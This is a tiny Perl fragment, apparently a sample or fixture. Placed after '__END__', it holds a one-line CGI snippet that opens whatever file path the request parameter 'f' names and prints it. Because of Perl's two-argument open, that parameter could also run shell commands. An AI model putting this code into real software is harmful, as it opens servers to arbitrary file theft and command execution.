exit;
__END__
my$f=CGI::param('f');open(F,$f);print while(<F>);print <F>;
